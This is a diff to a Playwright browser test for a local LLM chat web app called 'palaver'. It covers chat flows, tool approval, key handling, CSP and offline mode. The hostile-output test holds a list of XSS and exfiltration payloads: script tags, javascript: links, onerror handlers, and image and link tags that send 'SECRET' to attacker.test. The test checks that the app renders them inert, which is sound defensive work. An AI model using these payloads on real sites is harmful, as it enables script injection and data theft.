@@ -1,96 +1,437 @@
-// The web app as a newcomer meets it (issue 7, first path): the real `palaver serve` on a
-// temporary workspace serves www/ and pkg/; the provider double replays a real transcript. Open
-// the page (paired with the proxy by the printed URL), set a provider, send a message, see the
-// reply stream in, reload, see it again; hostile model output renders inert.
-// node tests/browser/app.mjs --palaver <binary>   (after build_pkg; uses /usr/bin/chromium)
-import { chromium } from 'playwright-core';
-import { spawn } from 'node:child_process';
-import { mkdtemp, rm } from 'node:fs/promises';
-import { tmpdir } from 'node:os';
-import { join, resolve } from 'node:path';
-import { fileURLToPath } from 'node:url';
+// The web app through the real `palaver serve` on a temporary workspace, with the provider double
+// and an attacker server (issue 7's list): a newcomer's path, a tool turn with approval and
+// rejection, stop / queue / regenerate / edit-and-resend / branch, a draft across reloads, hostile
+// model output, the CSP and Trusted Types (C11, C18, C19), key handling (C13-C17), two tabs on one
+// chat, and the offline app shell.
+// node tests/browser/app.mjs   (after build_pkg and `cargo build`; uses /usr/bin/chromium)
+import { readFile, writeFile } from 'node:fs/promises';
+import { join } from 'node:path';
+import {
+  check, failed, watchdog, startDouble, startServe, startAttacker, launch, tempDir, cleanup,
+  openaiStream, setProvider, ready, sendAndWait, waitIdle,
+} from './harness.mjs';
 
-const root = resolve(fileURLToPath(import.meta.url), '../../..');
-const argv = process.argv.slice(2);
-const palaverBin = argv[argv.indexOf('--palaver') + 1] ?? join(root, 'target/debug/palaver');
-setTimeout(() => {
-  console.log('FAIL the app test did not finish in 120 s');
-  process.exit(1);
-}, 120_000).unref();
+watchdog(300, 'the app test');
+const CANARY = 'sk-test-CANARY';
+const workspace = await tempDir('palaver-ws-');
+await writeFile(join(workspace, 'notes.txt'), 'original notes\n');
+const double = await startDouble();
+const attacker = await startAttacker();
+let serve = await startServe(workspace);
+const profile = await tempDir('palaver-app-');
+const context = await launch(profile, { attackerPort: attacker.port });
+const requests = [];
+context.on('request', (request) => requests.push(request));
+const consoleLines = [];
+const pageErrors = [];
 
-let failed = false;
-const check = (ok, what) => {
-  console.log(`${ok ? 'ok  ' : 'FAIL'} ${what}`);
-  failed ||= !ok;
-};
-
-/** Starts a process and resolves with its first stdout line that matches `pattern`. */
-function start(command, args, pattern) {
-  const child = spawn(command, args, { stdio: ['ignore', 'pipe', 'inherit'] });
-  return new Promise((ok, fail) => {
-    let out = '';
-    child.stdout.on('data', (chunk) => {
-      out += chunk;
-      const match = out.match(pattern);
-      if (match) ok({ child, match });
-    });
-    child.on('exit', (code) => fail(new Error(`${command} exited (${code}) before it was ready`)));
-  });
+async function newPage() {
+  const page = await context.newPage();
+  page.on('console', (m) => consoleLines.push(m.text()));
+  page.on('pageerror', (e) => pageErrors.push(e.message));
+  return page;
 }
 
-const workspace = await mkdtemp(join(tmpdir(), 'palaver-ws-'));
-const double = await start('node', [join(root, 'tests/double/server.mjs')], /"url":"([^"]+)"/);
-const serve = await start(palaverBin, ['serve', '--port', '0', '--workspace', workspace, '--www', join(root, 'www'), '--pkg', join(root, 'pkg')], /(http:\/\/127\.0\.0\.1:\d+\/#token=\S+)/);
-const appUrl = serve.match[1];
-const doubleUrl = double.match[1];
-const profile = await mkdtemp(join(tmpdir(), 'palaver-app-'));
-const context = await chromium.launchPersistentContext(profile, {
-  executablePath: process.env.CHROMIUM ?? '/usr/bin/chromium',
-  args: ['--headless', '--no-sandbox', '--disable-gpu', '--no-first-run', '--disable-background-networking',
-    '--disable-component-update', '--disable-sync'],
-});
-const remote = [];
-context.on('request', (request) => {
-  const url = request.url();
-  if (!url.startsWith('http://127.0.0.1') && !url.startsWith('data:') && !url.startsWith('blob:')) remote.push(url);
-});
-try {
-  const page = await context.newPage();
-  const errors = [];
-  page.on('pageerror', (e) => errors.push(e.message));
-  await page.goto(appUrl);
-  await page.waitForSelector('body[data-ready="true"]');
+const chatCount = (page) => page.locator('[data-testid=chat-item]').count();
+const assistantTexts = (page) => page.locator('[data-testid=message][data-role=assistant]:not([data-streaming])').allTextContents();
+
+async function newcomer(page) {
+  await page.goto(serve.printed);
+  await ready(page);
   check(!page.url().includes('token='), 'the pairing token left the address bar');
-  // Settings: a provider (the double replaying a real OpenAI stream).
-  await page.click('[data-testid=open-settings]');
-  await page.fill('[data-testid=provider-url]', `${doubleUrl}/wire/openai-chat/text_gpt4o`);
-  await page.fill('[data-testid=provider-model]', 'gpt-4o');
-  await page.fill('[data-testid=provider-key]', 'sk-test-CANARY');
-  await page.click('[data-testid=save-settings]');
-  await page.fill('[data-testid=prompt]', 'Hello there');
-  await page.click('[data-testid=send]');
-  await page.waitForSelector('[data-testid=message-assistant]', { timeout: 10_000 });
-  await page.waitForFunction(() => document.querySelector('[data-testid=status]').textContent === '' &&
-    document.querySelectorAll('[data-testid=message-assistant]').length === 1, null, { timeout: 10_000 });
-  const reply = await page.textContent('[data-testid=message-assistant]');
-  check(reply.trim().length > 10, `the reply streamed in (${JSON.stringify(reply.slice(0, 60))}…)`);
-  const stored = await page.evaluate(() => JSON.stringify(localStorage));
-  check(!stored.includes('CANARY'), 'the API key is not in localStorage');
+  const response = await page.reload();
+  await ready(page);
+  const csp = response.headers()['content-security-policy'] ?? '';
+  check(csp.includes("frame-ancestors 'none'") && csp.includes("require-trusted-types-for 'script'"), 'C18: the page comes with its CSP header');
+  await setProvider(page, { baseUrl: `${double.url}/wire/openai-chat/text_gpt4o`, key: CANARY });
+  await sendAndWait(page, 'Hello there', 1);
+  const [reply] = await assistantTexts(page);
+  check(reply.trim().length > 10, `the reply streamed in (${JSON.stringify(reply.slice(0, 50))}…)`);
+  check(await page.getAttribute('[data-testid=turn-phase]', 'data-phase') === 'done', 'the turn ends in phase done');
+  const usage = await page.getAttribute('[data-testid=context-usage]', 'data-estimated');
+  check(Number(usage) > 0, `the context gauge shows an estimate (${usage} tokens)`);
   await page.waitForTimeout(300);
   await page.reload();
-  await page.waitForSelector('body[data-ready="true"]');
+  await ready(page);
   await page.click('[data-testid=chat-item]');
-  await page.waitForSelector('[data-testid=message-assistant]');
-  const again = await page.textContent('[data-testid=message-assistant]');
-  check(again === reply, 'after a reload the chat is there, byte for byte');
-  check((await page.textContent('[data-testid=message-user]')) === 'Hello there', 'the user message too');
-  check(errors.length === 0, `no page errors (${errors.join('; ')})`);
-  check(remote.length === 0, `nothing was requested off this machine (${remote.join(', ')})`);
+  await page.waitForSelector('[data-testid=message][data-role=assistant]');
+  check((await assistantTexts(page))[0] === reply, 'after a reload the chat is there, byte for byte');
+  check((await page.textContent('[data-testid=message][data-role=user] .text')) === 'Hello there', 'the user message too');
+}
+
+async function fragmentPrefill(page) {
+  await page.goto('about:blank');
+  await page.goto(`${serve.origin}/#provider=anthropic&base_url=${encodeURIComponent('http://127.0.0.1:9/v1')}&model=claude-test&key=sk-leak`);
+  await ready(page);
+  check(!page.url().includes('#'), 'the settings fragment left the address bar');
+  await page.click('[data-testid=settings]');
+  const values = await page.evaluate(() => ['provider-kind', 'provider-base-url', 'provider-model', 'provider-key'].map((id) => document.getElementById(id).value));
+  check(values[0] === 'anthropic' && values[1] === 'http://127.0.0.1:9/v1' && values[2] === 'claude-test' && values[3] === '',
+    `#provider=…&base_url=…&model=… pre-fills the settings, never a key (${values.join(', ')})`);
+  await page.click('[data-testid=cancel-settings]');
+}
+
+async function scriptedProvider(page, id, responses) {
+  const url = await double.script(id, responses);
+  await setProvider(page, { baseUrl: url, key: CANARY });
+  return url;
+}
+
+async function toolTurns(page) {
+  await page.click('[data-testid=new-chat]');
+  const calls = (n) => [
+    { body: openaiStream({ text: 'Let me look.', toolCalls: [{ id: `call_read_${n}`, name: 'read_file', args: { path: 'notes.txt' } }] }) },
+    { body: openaiStream({ toolCalls: [{ id: `call_write_${n}`, name: 'write_file', args: { path: 'notes.txt', content: `changed by the model ${n}\n` } }] }) },
+    { body: openaiStream({ text: 'I updated notes.txt.' }) },
+  ];
+  await scriptedProvider(page, 'tools-approve', calls(1));
+  await page.fill('[data-testid=composer]', 'Update my notes');
+  await page.click('[data-testid=send]');
+  await page.waitForSelector('[data-testid=tool-approval]', { timeout: 15_000 });
+  check(await page.locator('[data-testid=tool-call][data-tool=read_file][data-status=done]').count() === 1, 'read_file ran on its own (auto) and its result is shown');
+  check((await page.textContent('[data-testid=tool-result]')).includes('original notes'), 'the read result is the file on disk, shown as text');
+  check(await page.getAttribute('[data-testid=turn-phase]', 'data-phase') === 'working', 'the turn is in phase working while it waits');
+  check((await readFile(join(workspace, 'notes.txt'), 'utf8')) === 'original notes\n', 'nothing is written before the approval');
+  await page.click('[data-testid=approve]');
+  await waitIdle(page, 2);
+  check((await readFile(join(workspace, 'notes.txt'), 'utf8')) === 'changed by the model 1\n', 'approve → the file changed on disk');
+  check((await assistantTexts(page)).at(-1).includes('I updated notes.txt.'), 'the turn went on to the final answer');
+
+  await writeFile(join(workspace, 'notes.txt'), 'original notes\n');
+  await page.click('[data-testid=new-chat]');
+  await scriptedProvider(page, 'tools-reject', calls(2));
+  await page.fill('[data-testid=composer]', 'Update my notes again');
+  await page.click('[data-testid=send]');
+  await page.waitForSelector('[data-testid=tool-approval]', { timeout: 15_000 });
+  await page.click('[data-testid=reject]');
+  await page.waitForFunction(() => !globalThis.palaverApp.chat.busy);
+  await page.waitForTimeout(300);
+  check((await readFile(join(workspace, 'notes.txt'), 'utf8')) === 'original notes\n', 'reject → the file is unchanged');
+  const log = await double.log('tools-reject');
+  check(log.length === 2, `reject → the turn ends: no request after the rejection (${log.length} requests)`);
+  check(await page.locator('[data-testid=tool-approval]').count() === 0, 'the approval card is gone');
+  check(await page.locator('[data-testid=tool-call][data-tool=write_file][data-status=failed]').count() === 1, 'the rejected call shows as failed');
+}
+
+const longText = Array.from({ length: 400 }, (_, i) => `word${i}`).join(' ');
+
+async function stopQueueRegenerate(page) {
+  await page.click('[data-testid=new-chat]');
+  await scriptedProvider(page, 'stop', [
+    { body: openaiStream({ text: longText, pieces: 400 }), chunk_bytes: 400, delay_ms: 40 },
+    { body: openaiStream({ text: 'Second answer.' }) },
+  ]);
+  await page.fill('[data-testid=composer]', 'Tell me a long story');
+  await page.click('[data-testid=send]');
+  await page.waitForSelector('[data-testid=message][data-streaming=true]', { timeout: 10_000 });
+  check(await page.isVisible('[data-testid=stop]') && !(await page.isVisible('[data-testid=send]')), 'while streaming, Send has become Stop');
+  check(await page.getAttribute('[data-testid=turn-phase]', 'data-phase') === 'streaming', 'the turn is in phase streaming');
+  await page.waitForTimeout(600);
+  await page.click('[data-testid=stop]');
+  await waitIdle(page, 1);
+  const stopped = (await assistantTexts(page))[0];
+  check(stopped.startsWith('word0 word1') && !stopped.includes('word399'), 'stop keeps the partial answer');
+  check(await page.locator('[data-testid=marker-stopped]').count() === 1, 'with its stopped marker');
+
+  // A message sent while busy is queued, shown, and runs next.
+  await scriptedProvider(page, 'queue', [
+    { body: openaiStream({ text: longText, pieces: 100 }), chunk_bytes: 600, delay_ms: 30 },
+    { body: openaiStream({ text: 'Answer to the queued one.' }) },
+    { body: openaiStream({ text: 'Regenerated answer.' }) },
+    { body: openaiStream({ text: 'Answer to the edited question.' }) },
+  ]);
+  await page.fill('[data-testid=composer]', 'First question');
+  await page.click('[data-testid=send]');
+  await page.waitForSelector('[data-testid=message][data-streaming=true]', { timeout: 10_000 });
+  await page.fill('[data-testid=composer]', 'Queued question');
+  await page.click('[data-testid=send]');
+  await page.waitForSelector('[data-testid=queue] [data-testid=queued]');
+  check((await page.textContent('[data-testid=queue]')).includes('Queued question'), 'the message sent while busy shows as queued');
+  await page.fill('[data-testid=composer]', 'Never mind this one');
+  await page.click('[data-testid=send]');
+  await page.waitForFunction(() => document.querySelectorAll('[data-testid=queued]').length === 2);
+  await page.locator('[data-testid=queued]', { hasText: 'Never mind' }).locator('[data-testid=cancel-queued]').click();
+  await page.waitForFunction(() => document.querySelectorAll('[data-testid=queued]').length === 1);
+  check(true, 'a queued message can be cancelled');
+  await waitIdle(page, 3, 30_000);
+  const users = await page.locator('[data-testid=message][data-role=user] .text').allTextContents();
+  check(users.join('|') === 'Tell me a long story|First question|Queued question', `the queued message ran next; the cancelled one never did (${users.join('|')})`);
+  check((await assistantTexts(page)).at(-1).includes('Answer to the queued one.'), 'and got its answer');
+
+  await page.click('[data-testid=regenerate]');
+  await page.waitForFunction(() => [...document.querySelectorAll('[data-testid=message][data-role=assistant]')].at(-1)?.textContent.includes('Regenerated answer.'), null, { timeout: 10_000 });
+  await waitIdle(page, 3);
+  check((await assistantTexts(page)).length === 3, 'regenerate replaces the last answer');
+
+  const chatId = await page.evaluate(() => globalThis.palaverApp.chat.id);
+  await page.locator('[data-testid=message][data-role=user]').nth(1).locator('[data-testid=edit]').click();
+  await page.fill('[data-testid=edit-text]', 'First question, edited');
+  await page.click('[data-testid=edit-send]');
+  await waitIdle(page, 2);
+  const afterEdit = await page.locator('[data-testid=message][data-role=user] .text').allTextContents();
+  check(afterEdit.join('|') === 'Tell me a long story|First question, edited', `edit-and-resend replaces the history from there (${afterEdit.join('|')})`);
+  check((await assistantTexts(page)).at(-1).includes('Answer to the edited question.'), 'and the edited question is answered');
+
+  const before = await chatCount(page);
+  await page.locator('[data-testid=message][data-role=assistant]').first().locator('[data-testid=branch]').click();
+  await page.waitForFunction((id) => globalThis.palaverApp.chat && globalThis.palaverApp.chat.id !== id && globalThis.palaverApp.chat.messages.length > 0, chatId);
+  await page.waitForFunction(() => document.querySelectorAll('[data-testid=message]').length === 2);
+  check(await chatCount(page) === before + 1, 'branch creates a new chat');
+  const branched = await page.locator('[data-testid=message]').allTextContents();
+  check(branched[0].includes('Tell me a long story') && branched[1].startsWith('word0'), 'holding the prefix up to the message');
+  check((await page.textContent('[data-testid=chat-title]')).includes('(branch)'), 'named as a branch');
+}
+
+async function draftSurvivesReload(page) {
+  await page.fill('[data-testid=composer]', 'half-written thought');
+  const chatId = await page.evaluate(() => globalThis.palaverApp.chat.id);
+  await page.reload();
+  await ready(page);
+  await page.click(`[data-testid=chat-item][data-chat-id="${chatId}"]`);
+  await page.waitForFunction((id) => globalThis.palaverApp.chat?.id === id, chatId);
+  check((await page.inputValue('[data-testid=composer]')) === 'half-written thought', 'a draft survives reload');
+  await page.fill('[data-testid=composer]', '');
+}
+
+const HOSTILE = [
+  '<script>window.__xss = 1</script>',
+  '[click](javascript:window.__xss=2) [data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) [v](vbscript:x) [e](&#106;avascript:window.__xss=3)',
+  '![track](http://attacker.test/log?d=SECRET) ![ref][r]',
+  '[r]: https://attacker.test/ref?d=SECRET',
+  '<img src=http://attacker.test/raw> <img src=x onerror="window.__xss=4"> <svg onload="window.__xss=5"></svg>',
+  '<a ping=http://attacker.test/ping href=https://example.com>p</a> <div style="background:url(http://attacker.test/css)">s</div>',
+  '<iframe srcdoc="<script>parent.__xss=6</script>"></iframe> <meta http-equiv=refresh content="0;url=http://attacker.test/meta"> <base href=http://attacker.test/>',
+  '<math><mtext><table><mglyph><style><img src=x onerror="window.__xss=7">',
+  '<http://attacker.test/autolink?d=SECRET> https://attacker.test/bare?d=SECRET',
+  '```html',
+  `<img src=x onerror="window.__xss=8">${'x'.repeat(1_000_000)}`,
+  '```',
+].join('\n\n');
+
+async function hostileOutput(page) {
+  await page.click('[data-testid=new-chat]');
+  await scriptedProvider(page, 'hostile', [{ body: openaiStream({ text: HOSTILE, pieces: 60 }), chunk_bytes: 20_000, delay_ms: 5 }]);
+  const before = attacker.hits.length;
+  await page.fill('[data-testid=composer]', 'Say something nasty');
+  await page.click('[data-testid=send]');
+  await waitIdle(page, 1, 30_000);
+  const start = Date.now();
+  await page.evaluate(() => 1);
+  check(Date.now() - start < 1000, `the page stays responsive after a 1 MB code block (${Date.now() - start} ms for a round trip)`);
+  await page.waitForTimeout(500);
+  check(await page.evaluate(() => globalThis.__xss) === undefined, 'hostile output executed nothing (window.__xss unset)');
+  const unsafe = await page.evaluate(() => {
+    const bad = [];
+    for (const node of document.querySelectorAll('#transcript *')) {
+      for (const attr of node.attributes) {
+        const value = attr.value.trim().toLowerCase();
+        if (attr.name.startsWith('on') || attr.name === 'style' || attr.name === 'srcdoc' || attr.name === 'ping' ||
+          (['href', 'src', 'action', 'poster', 'srcset', 'formaction'].includes(attr.name) && !/^(https?:|mailto:)/.test(value))) bad.push(`${node.tagName} ${attr.name}=${attr.value.slice(0, 40)}`);
+      }
+      if (['SCRIPT', 'IMG', 'IFRAME', 'SVG', 'STYLE', 'META', 'BASE', 'LINK', 'OBJECT', 'EMBED', 'FORM', 'VIDEO', 'PICTURE'].includes(node.tagName.toUpperCase())) bad.push(node.tagName);
+    }
+    return bad;
+  });
+  check(unsafe.length === 0, `C20: no unsafe element or attribute in the rendered transcript (${unsafe.slice(0, 5).join('; ')})`);
+  check(await page.locator('#transcript .remote-image').count() >= 2, 'remote images are click-to-load placeholders');
+  check(attacker.hits.length === before, `nothing reached the attacker (${attacker.hits.slice(before).join(', ')})`);
+  check(await page.locator('#transcript pre code').count() >= 1, 'the 1 MB code block is shown as code');
+}
+
+async function cspAndTrustedTypes(page) {
+  const before = attacker.hits.length;
+  await context.route('**/__csp-probe.js', (route) => route.fulfill({
+    contentType: 'text/javascript',
+    body: "let outcome; try { eval('1'); outcome = 'ran'; } catch (e) { outcome = e.name; } export const evalOutcome = outcome;",
+  }));
+  const result = await page.evaluate(async () => {
+    const violations = [];
+    document.addEventListener('securitypolicyviolation', (e) => violations.push(e.effectiveDirective));
+    const outcome = {};
+    try {
+      document.body.insertAdjacentHTML('beforeend', '<img src=https://attacker.test/x>');
+      outcome.insertAdjacentHTML = 'allowed';
+    } catch (e) {
+      outcome.insertAdjacentHTML = e.name;
+    }
+    const img = document.createElement('img');
+    img.src = 'https://attacker.test/img';
+    document.body.append(img);
+    // Code evaluated by the test harness is exempt from CSP; code the page loads is not.
+    outcome.eval = (await import('/__csp-probe.js')).evalOutcome;
+    try {
+      await fetch('http://attacker.test/plain-http');
+      outcome.fetch = 'sent';
+    } catch (e) {
+      outcome.fetch = e.name;
+    }
+    try {
+      document.getElementById('status').innerHTML = '<b>sink</b>';
+      outcome.innerHTML = 'allowed';
+    } catch (e) {
+      outcome.innerHTML = e.name;
+    }
+    try {
+      trustedTypes.createPolicy('other', { createHTML: (s) => s });
+      outcome.policy = 'created';
+    } catch (e) {
+      outcome.policy = e.name;
+    }
+    outcome.wasm = typeof (await WebAssembly.instantiate(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0]))).instance;
+    await new Promise((r) => setTimeout(r, 300));
+    img.remove();
+    outcome.violations = violations;
+    return outcome;
+  });
+  check(result.violations.includes('img-src'), `C11: a remote <img> is refused (img-src) (${result.violations.join(', ')})`);
+  check(result.eval === 'EvalError' && result.violations.some((v) => v.startsWith('script-src') || v === 'require-trusted-types-for'), `C11: eval in page code is refused by the policy (${result.eval}; Trusted Types reports it before script-src)`);
+  check(result.fetch === 'TypeError' && result.violations.includes('connect-src'), `C11: fetch to a plain-http foreign host is refused (${result.fetch}); https: stays open for user-configured providers, as the issue requires`);
+  check(result.wasm === 'object', 'C11: WebAssembly still instantiates (wasm-unsafe-eval)');
+  check(result.insertAdjacentHTML === 'TypeError' && result.innerHTML === 'TypeError', `C19: HTML sinks outside the renderer's policy throw (${result.insertAdjacentHTML}, ${result.innerHTML})`);
+  check(result.policy === 'TypeError', `C19: no other Trusted Types policy can be made (${result.policy})`);
+  check(attacker.hits.length === before, `no request reached the attacker (${attacker.hits.slice(before).join(', ')})`);
+}
+
+async function keys(page) {
+  // C13/C14: the canary went to the provider double only, in its auth header.
+  const leaks = [];
+  for (const request of requests) {
+    const url = request.url();
+    const headers = await request.allHeaders().catch(() => request.headers());
+    const body = request.postData() ?? '';
+    const toProvider = url.startsWith(double.url);
+    const inHeaders = Object.entries(headers).filter(([, v]) => v.includes(CANARY)).map(([k]) => k);
+    if (url.includes(CANARY) || body.includes(CANARY)) leaks.push(`${url} (url/body)`);
+    if (inHeaders.length && !(toProvider && inHeaders.every((h) => ['authorization', 'x-api-key', 'x-goog-api-key'].includes(h)))) leaks.push(`${url} headers ${inHeaders}`);
+  }
+  check(requests.some((r) => r.url().startsWith(double.url) && (r.headers().authorization ?? '').includes(CANARY)), 'C13: the key reached the provider in its Authorization header');
+  check(leaks.length === 0, `C13: the key appears nowhere else: no URL, body, proxy or attacker request (${leaks.join('; ')})`);
+  const exported = await page.evaluate(async () => {
+    const app = globalThis.palaverApp;
+    const chats = await app.palaver.listChats();
+    const out = [];
+    for (const c of chats) out.push(await app.palaver.exportChat(c.id, 'refact'), await app.palaver.exportChat(c.id, 'markdown'));
+    return out.join('\n');
+  });
+  check(!exported.includes(CANARY), 'C14: exports do not hold the key');
+  check(!consoleLines.join('\n').includes(CANARY) && !pageErrors.join('\n').includes(CANARY), 'C14: nor does the console');
+  const dump = () => page.evaluate(async () => {
+    const out = [JSON.stringify(localStorage)];
+    for (const info of await indexedDB.databases()) {
+      const db = await new Promise((ok, fail) => {
+        const r = indexedDB.open(info.name);
+        r.onsuccess = () => ok(r.result);
+        r.onerror = () => fail(r.error);
+      });
+      for (const name of db.objectStoreNames) {
+        const all = await new Promise((ok) => {
+          const r = db.transaction(name).objectStore(name).getAll();
+          r.onsuccess = () => ok(r.result);
+        });
+        out.push(JSON.stringify(all, (k, v) => (v instanceof CryptoKey ? `CryptoKey(extractable=${v.extractable})` : ArrayBuffer.isView(v) || v instanceof ArrayBuffer ? `bytes(${v.byteLength})` : v)));
+      }
+      db.close();
+    }
+    return out.join('\n');
+  });
+  check(!(await dump()).includes(CANARY), 'C14/C16: no trajectory, IndexedDB or localStorage record holds the key');
+  await page.reload();
+  await ready(page);
+  await page.click('[data-testid=settings]');
+  check((await page.inputValue('[data-testid=provider-key]')) === '', 'C16: "remember key" off → after a reload the key is gone');
+  await page.click('[data-testid=cancel-settings]');
+
+  // C17: remembered, the key is ciphertext under a non-extractable CryptoKey.
+  await setProvider(page, { baseUrl: `${double.url}/wire/openai-chat/text_gpt4o`, key: CANARY, remember: true });
+  const stored = await dump();
+  check(!stored.includes(CANARY) && stored.includes('CryptoKey(extractable=false)') && /bytes\(\d+\)/.test(stored), 'C17: IndexedDB holds ciphertext and a non-extractable key only');
+  const exportable = await page.evaluate(async () => {
+    const db = await new Promise((ok) => {
+      const r = indexedDB.open('palaver-vault');
+      r.onsuccess = () => ok(r.result);
+    });
+    const key = await new Promise((ok) => {
+      const r = db.transaction('keys').objectStore('keys').get('wrapping-key');
+      r.onsuccess = () => ok(r.result);
+    });
+    db.close();
+    return crypto.subtle.exportKey('raw', key).then(() => 'exported', (e) => e.name);
+  });
+  check(exportable === 'InvalidAccessError', `C17: exportKey on the wrapping key rejects (${exportable})`);
+  await page.reload();
+  await ready(page);
+  await page.click('[data-testid=settings]');
+  check((await page.inputValue('[data-testid=provider-key]')) === CANARY, 'C17: remembered, the key comes back after a reload');
+  await page.setChecked('[data-testid=remember-key]', false);
+  await page.click('[data-testid=save-settings]');
+  check(!(await dump()).includes('bytes('), 'unticking "remember" deletes the stored ciphertext');
+
+  // C15: Gemini gets its key in x-goog-api-key, never in the URL.
+  await page.click('[data-testid=new-chat]');
+  await setProvider(page, { kind: 'gemini', baseUrl: `${double.url}/wire/gemini/text`, model: 'gemini-test', key: CANARY });
+  await sendAndWait(page, 'Hello Gemini', 1);
+  const gemini = (await double.log('wire')).filter((e) => e.path.includes('/wire/gemini/'));
+  check(gemini.length === 1 && gemini[0].headers['x-goog-api-key'] === CANARY && !gemini[0].path.includes('key='), `C15: Gemini's key in x-goog-api-key, not in the URL (${gemini[0]?.path})`);
+}
+
+async function twoTabs(page) {
+  await page.click('[data-testid=new-chat]');
+  await setProvider(page, { baseUrl: `${double.url}/wire/openai-chat/text_gpt4o`, key: CANARY });
+  await sendAndWait(page, 'From tab one', 1);
+  const chatId = await page.evaluate(() => globalThis.palaverApp.chat.id);
+  const other = await newPage();
+  await other.goto(serve.origin);
+  await ready(other);
+  await other.click(`[data-testid=chat-item][data-chat-id="${chatId}"]`);
+  await other.waitForSelector('[data-testid=message][data-role=assistant]');
+  check(JSON.stringify(await assistantTexts(other)) === JSON.stringify(await assistantTexts(page)), 'a second tab shows the same chat');
+  // The second tab has its own memory: it needs the key too (never shared through storage).
+  await setProvider(other, { baseUrl: `${double.url}/wire/openai-chat/text_gpt4o`, key: CANARY });
+  await other.click(`[data-testid=chat-item][data-chat-id="${chatId}"]`);
+  await sendAndWait(other, 'From tab two', 2);
+  await page.waitForFunction(() => document.querySelectorAll('[data-testid=message][data-role=user]').length === 2, null, { timeout: 10_000 });
+  await waitIdle(page, 2);
+  const a = await page.locator('[data-testid=message]').allTextContents();
+  const b = await other.locator('[data-testid=message]').allTextContents();
+  check(a.length === 4 && JSON.stringify(a) === JSON.stringify(b), `two tabs on one chat stay consistent (${a.length} and ${b.length} messages)`);
+  await other.close();
+}
+
+async function offline(page) {
+  await page.evaluate(() => navigator.serviceWorker.ready);
+  const chats = await chatCount(page);
+  serve.child.kill();
+  await new Promise((r) => serve.child.once('exit', r));
+  await context.setOffline(true);
+  await page.reload();
+  await ready(page);
+  const listed = await chatCount(page);
+  check(listed === chats, `offline, the app opens from its cache and lists the ${chats} past chats (${listed})`);
+  await page.locator('[data-testid=chat-item]').last().click();
+  await page.waitForSelector('[data-testid=message][data-role=assistant]');
+  check(await page.locator('[data-testid=message]').count() > 0, 'and a past chat is readable');
+  await context.setOffline(false);
+}
+
+try {
+  const page = await newPage();
+  for (const [name, run] of [['newcomer', newcomer], ['fragment', fragmentPrefill], ['tools', toolTurns], ['stop/queue/regenerate/edit/branch', stopQueueRegenerate],
+    ['draft', draftSurvivesReload], ['hostile output', hostileOutput], ['csp', cspAndTrustedTypes], ['keys', keys], ['two tabs', twoTabs], ['offline', offline]]) {
+    console.log(`-- ${name}`);
+    try {
+      await run(page);
+    } catch (error) {
+      check(false, `${name}: ${error.message.split('\n')[0]}`);
+    }
+  }
+  check(pageErrors.length === 0, `no page errors (${pageErrors.join('; ')})`);
+  const offMachine = requests.map((r) => r.url()).filter((u) => !/^(http:\/\/127\.0\.0\.1|data:|blob:|chrome)/.test(u) && !u.startsWith('http://attacker.test') && !u.startsWith('https://attacker.test'));
+  check(offMachine.length === 0, `nothing was requested off this machine (${offMachine.slice(0, 5).join(', ')})`);
 } finally {
   await context.close().catch(() => {});
   serve.child.kill();
   double.child.kill();
-  await rm(profile, { recursive: true, force: true });
-  await rm(workspace, { recursive: true, force: true });
+  attacker.close();
+  await cleanup(profile, workspace);
 }
-process.exit(failed ? 1 : 0);
+process.exit(failed() ? 1 : 0);
